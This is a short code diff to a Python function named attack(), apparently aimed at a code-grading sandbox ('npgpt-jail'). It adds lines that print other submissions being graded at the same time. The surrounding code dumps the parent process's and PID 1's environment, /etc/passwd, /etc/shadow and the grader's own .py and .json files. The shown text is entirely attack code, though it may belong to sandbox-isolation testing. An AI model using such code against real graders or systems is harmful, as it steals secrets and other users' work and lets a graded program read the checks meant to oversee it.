@@ -39,6 +39,9 @@ def attack():
     ppid = os.getppid()
     for path in (f"/proc/{ppid}/environ", "/proc/1/environ", "/etc/passwd", "/etc/shadow"):
         print("ATTACK", path, "->", grab(path)[:400])
+    others = glob.glob("/tmp/npgpt-jail-*/sub/*.py") + glob.glob("/var/tmp/npgpt-jail-*/sub/*.py")
+    for p in sorted(others)[:50]:  # copies of submissions graded at the same time
+        print("ATTACK", p, "->", grab(p)[:200])
     for d in sorted(p for p in grader_paths() if os.path.isdir(p)):
         for p in sorted(glob.glob(os.path.join(d, "*.py")) + glob.glob(os.path.join(d, "*.json")))[:50]:
             print("ATTACK", p, "->", grab(p)[:200])
